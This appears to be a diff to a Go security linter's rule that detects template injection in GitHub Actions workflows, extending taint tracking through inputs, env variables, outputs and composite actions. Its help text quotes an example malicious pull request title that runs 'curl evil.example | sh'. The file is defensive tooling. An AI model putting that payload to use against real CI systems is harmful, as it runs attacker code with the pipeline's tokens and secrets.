@@ -10,7 +10,7 @@ import (
 var templateInjectionRule = finding.Rule{
 	ID:       "template-injection",
 	Severity: finding.SeverityHigh,
-	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ...) is expanded inside run: or an actions/github-script script:.",
+	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ..., or an env variable, matrix value, step or job output or action input carrying one; medium for workflow_dispatch/workflow_call inputs) is expanded inside run: or a script input such as actions/github-script script:.",
 	Fix:      "Pass the value through an environment variable (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script.",
 	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
 		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
@@ -20,24 +20,49 @@ var templateInjectionRule = finding.Rule{
 		"(contains(), startsWith(), endsWith(), comparisons, the left side of &&) are safe, and so are env: values and if: conditions. " +
 		"Besides run:, the inputs that actions run as code are checked: actions/github-script script, azure/cli and azure/powershell inlineScript, " +
 		"and a few more (cardinalby/js-eval-action, amadevus/pwsh-script, jannekem/run-python-script-action, appleboy/ssh-action, " +
-		"addnab/docker-run-action run, mikefarah/yq cmd).",
+		"addnab/docker-run-action run, mikefarah/yq cmd). " +
+		"Taint is followed beyond the event: string inputs of workflow_dispatch and workflow_call (inputs.x, github.event.inputs.x; reported as medium, " +
+		"since whoever starts or calls the workflow sets them), env: at any level and $GITHUB_ENV writes set from untrusted values, matrix rows " +
+		"listing them, step outputs written from them to $GITHUB_OUTPUT (steps.<id>.outputs.x), on pull request triggers the outputs of " +
+		"actions that list the changed file names or name the branch (tj-actions/changed-files, dorny/paths-filter, tj-actions/branch-names), and the inputs of a local composite action " +
+		"(uses: ./dir) that a caller in the repository passes untrusted values to, reported in the action where it expands them.",
 }
 
 var templateInjection = Rule{Rule: templateInjectionRule, Workflow: checkTemplateInjectionWorkflow, Action: checkTemplateInjectionAction}
 
 func checkTemplateInjectionWorkflow(c *Context, w *ciconfig.Workflow, report func(finding.Finding)) {
-	wfEnv := taintedEnv(nil, w.Env)
+	checkEnvExpressions(c, w, report)
+	wt := workflowTaint(w)
+	for name, from := range c.ActionInputs {
+		// A caller in the repository passes untrusted values: the
+		// inputs are an outsider's, not only the caller's.
+		wt.addPath("inputs."+strings.ToLower(name), from, false)
+	}
 	for _, j := range w.Jobs {
-		jobEnv := taintedEnv(wfEnv, j.Env)
+		jt := jobTaint(wt, j)
+		workflowCall(c, j, &jt)
 		for _, s := range j.Steps {
-			checkTemplateInjectionStep(c, w.Source, s, taintedEnv(jobEnv, s.Env), report)
+			st := jt.withEnv(s.Env)
+			checkTemplateInjectionStep(c, w.Source, s, &st, report)
+			localCall(c, s, &st)
+			jt = afterStep(jt, &st, s)
+			jt = actionOutputs(jt, s)
 		}
+		jobOutputs(&wt, j, &jt)
 	}
 }
 
 func checkTemplateInjectionAction(c *Context, a *ciconfig.Action, report func(finding.Finding)) {
+	var at taint
+	for name, from := range c.ActionInputs {
+		at.addPath("inputs."+strings.ToLower(name), from, false)
+	}
 	for _, s := range actionSteps(a) {
-		checkTemplateInjectionStep(c, a.Source, s.step, taintedEnv(nil, s.step.Env), report)
+		envExpression(c, s.step.EnvExpr, "the step", report)
+		st := at.withEnv(s.step.Env)
+		checkTemplateInjectionStep(c, a.Source, s.step, &st, report)
+		localCall(c, s.step, &st)
+		at = afterStep(at, &st, s.step)
 	}
 }
 
@@ -47,9 +72,11 @@ func checkTemplateInjectionAction(c *Context, a *ciconfig.Action, report func(fi
 // copy the job's set each.
 type taintScope struct {
 	parent *taintScope
-	// vars maps a name set at this level to the untrusted context it
-	// carries, or to "" when this level overrides it with a safe value.
-	vars map[string]string
+	// vars maps a name set at this level, in lower case (expressions
+	// read env case-insensitively), to the name as set and the untrusted
+	// context it carries, or to "" when this level overrides it with a
+	// safe value.
+	vars map[string]envVar
 	// tainted is false when no level sets a variable from untrusted input
 	// (a cheap filter; an override may still hide all of them).
 	tainted bool
@@ -61,13 +88,23 @@ func (e *taintScope) any() bool { return e != nil && e.tainted }
 
 // lookup returns the untrusted context variable name carries, if any.
 func (e *taintScope) lookup(name string) (string, bool) {
+	_, from, ok := e.lookupName(name)
+	return from, ok
+}
+
+// lookupName is lookup that also returns the variable's name as set.
+func (e *taintScope) lookupName(name string) (string, string, bool) {
+	name = strings.ToLower(name)
 	for ; e != nil; e = e.parent {
-		if from, ok := e.vars[name]; ok {
-			return from, from != ""
+		if v, ok := e.vars[name]; ok {
+			return v.name, v.from, v.from != ""
 		}
 	}
-	return "", false
+	return "", "", false
 }
+
+// envVar is one variable of a taintScope.
+type envVar struct{ name, from string }
 
 // taintedEnv returns the scope of env's entries over parent (nil at the
 // top); parent is never modified.
@@ -90,9 +127,9 @@ func taintedEnv(parent *taintScope, env []ciconfig.Pair) *taintScope {
 			continue // nothing to override
 		}
 		if out == nil {
-			out = &taintScope{parent: parent, vars: map[string]string{}, tainted: parent.any()}
+			out = &taintScope{parent: parent, vars: map[string]envVar{}, tainted: parent.any()}
 		}
-		out.vars[p.Name.Value] = tainted
+		out.vars[strings.ToLower(p.Name.Value)] = envVar{p.Name.Value, tainted}
 		out.tainted = out.tainted || tainted != ""
 	}
 	if out == nil {
@@ -101,7 +138,7 @@ func taintedEnv(parent *taintScope, env []ciconfig.Pair) *taintScope {
 	return out
 }
 
-func checkTemplateInjectionStep(c *Context, src *ciconfig.Source, s *ciconfig.Step, env *taintScope, report func(finding.Finding)) {
+func checkTemplateInjectionStep(c *Context, src *ciconfig.Source, s *ciconfig.Step, env *taint, report func(finding.Finding)) {
 	if s.Run != nil {
 		checkInjectedScript(c, src, s.Run, "run:", shellLang(s.Shell), env, report)
 	}
@@ -131,23 +168,24 @@ var codeInputs = []struct{ action, input, lang string }{
 	{"mikefarah/yq", "cmd", "sh"},
 }
 
-func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where, lang string, env *taintScope, report func(finding.Finding)) {
+func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where, lang string, env *taint, report func(finding.Finding)) {
 	if !strings.Contains(script.Value, "${{") {
 		return
 	}
 	type hit struct {
 		e     expr
 		paths []string
+		soft  bool
 	}
 	var buf [4]hit
 	hits := buf[:0]
 	for _, e := range expressions(script.Value) {
-		paths := e.Untrusted
+		paths, soft := e.Untrusted, false
 		if len(paths) == 0 && env.any() {
-			paths = taintedEnvRefs(script.Value[e.Start:e.End], env)
+			paths, soft = taintedRefsParsed(script.Value[e.Start:e.End], env)
 		}
 		if len(paths) > 0 {
-			hits = append(hits, hit{e, paths})
+			hits = append(hits, hit{e, paths, soft})
 		}
 	}
 	reportCapped(len(hits), func(i int) finding.Finding {
@@ -164,9 +202,17 @@ func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.Stri
 			env := envName(paths[0])
 			fix = "Pass it through an environment variable: add `env: " + env + ": " + text + "` to the step and use \"" + shellRef(lang, env) + "\" instead of the expression."
 		}
-		return c.at(&templateInjectionRule, src.Locate(script, e.Start),
-			where+" expands "+text+", which an outsider controls ("+strings.Join(paths, ", ")+"): its text becomes part of the script and can run commands",
+		who := "an outsider controls"
+		if hits[i].soft {
+			who = "whoever starts or calls the workflow controls"
+		}
+		f := c.at(&templateInjectionRule, src.Locate(script, e.Start),
+			where+" expands "+text+", which "+who+" ("+strings.Join(paths, ", ")+"): its text becomes part of the script and can run commands",
 			fix)
+		if hits[i].soft {
+			f.Severity = finding.SeverityMedium
+		}
+		return f
 	}, report)
 }
 
@@ -226,28 +272,4 @@ func shellRef(lang, env string) string {
 		return "os.environ['" + env + "']"
 	}
 	return "$" + env
-}
-
-// taintedEnvRefs returns "env.NAME (from <context>)" for every env.NAME in
-// expression text that names a tainted variable.
-func taintedEnvRefs(text string, env *taintScope) []string {
-	var out []string
-	for at := 0; ; {
-		i := strings.Index(text[at:], "env.")
-		if i < 0 {
-			return out
-		}
-		i += at
-		at = i + len("env.")
-		if i > 0 && isWordByte(text[i-1]) {
-			continue // e.g. github.env.x, myenv.x
-		}
-		j := at
-		for j < len(text) && (isWordByte(text[j]) && text[j] != '.') {
-			j++
-		}
-		if from, ok := env.lookup(text[at:j]); ok {
-			out = append(out, "env."+text[at:j]+" set from "+from)
-		}
-	}
 }
